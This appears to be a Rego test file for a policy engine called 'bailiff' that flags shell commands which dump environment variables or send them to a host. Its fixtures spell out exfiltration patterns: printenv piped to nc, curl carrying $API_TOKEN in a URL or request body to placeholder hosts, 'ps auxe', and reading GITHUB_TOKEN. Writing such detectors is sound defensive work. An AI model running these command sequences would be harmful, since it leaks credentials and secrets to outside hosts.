package bailiff_test

# What is found of the environment.
_environment(calls) := _environment_with(calls, {})

_environment_with(calls, facts) := _told_of(found) if {
	asked := _text_with(calls, facts)
	sent := {finding |
		"sends" in data.bailiff._aspects
		some finding in data.bailiff._examined.sends
	} with input as asked
	found := union({data.bailiff._examined.lists_processes, data.bailiff._examined.environment, sent}) with input as asked
}

test_environment_is_not_sent_unasked if {
	_environment_with(
		[call("printenv", [], []), call("nc", [], ["x.test", "1"])],
		{"hosts": ["x.test"]},
	).rules == {"command.sends_environment"}
	_environment_with([call("env", [], []), call("curl", [], [])], {"hosts": ["x.test"]}).rules == {"command.sends_environment"}
	_environment_with([call("printenv", [], [])], {"hosts": ["x.test"]}).rules == set()
}

test_environment_is_found_where_it_leaves if {
	_environment([call("printenv", [], []), call("nc", [], ["h", "1"])]).told == {"command.sends_environment: "}
	_environment([call("env", [], ["A=1", "make"]), call("nc", [], ["h", "1"])]).told == set()
	_environment([call("ps", [], ["auxe"])]).told == {"command.reads_credentials: ps auxe"}
	_environment([call("ps", [], ["aux"])]).told == set()
	_environment_with([call("curl", [], ["https://x.test/$API_TOKEN"])], {"variables": ["API_TOKEN"], "hosts": ["x.test"]}).told == {
		"command.sends_environment: ",
	}
	_environment_with(
		[call("curl", ["-H"], ["Authorization: $API_TOKEN", "https://x.test"])],
		{"variables": ["API_TOKEN"], "hosts": ["x.test"]},
	).told == set()
	_environment_with(
		[call("curl", [], ["-sSH", "Authorization: $API_TOKEN", "https://x.test"])],
		{"variables": ["API_TOKEN"], "hosts": ["x.test"]},
	).told == set()
	_environment_with(
		[call("curl", [], ["-dH", "$API_TOKEN", "https://x.test"])],
		{"variables": ["API_TOKEN"], "hosts": ["x.test"]},
	).told == {"command.sends_environment: "}
	_environment_with([call("curl", [], ["https://x.test/$LANG"])], {"variables": ["LANG"], "hosts": ["x.test"]}).told == set()
	[made.argv | some made in _listings; data.bailiff._dumps_environment(made)] == [
		["printenv"],
		["printenv", "TZ"],
		["env"],
		["export", "-p"],
		["declare", "-x"],
	]
}

_listings := [
	call("printenv", [], []),
	call("printenv", [], ["TZ"]),
	call("env", [], []),
	call("env", ["-i"], []),
	call("env", [], ["make"]),
	call("export", ["-p"], []),
	call("declare", ["-x"], []),
	call("declare", ["-a"], []),
]

test_secrets_looked_for_in_the_environment_are_found if {
	dump := object.union(call("printenv", [], []), {"pipes_to": "grep"})
	_environment([dump, call("grep", ["-i"], ["token"])]).rules == {"command.reads_credentials"}
	_environment([dump, call("grep", [], ["PATH"])]).rules == set()
	_environment([call("printenv", [], ["GITHUB_TOKEN"])]).rules == {"command.reads_credentials"}
	_environment([call("printenv", [], ["HOME"])]).rules == set()
}
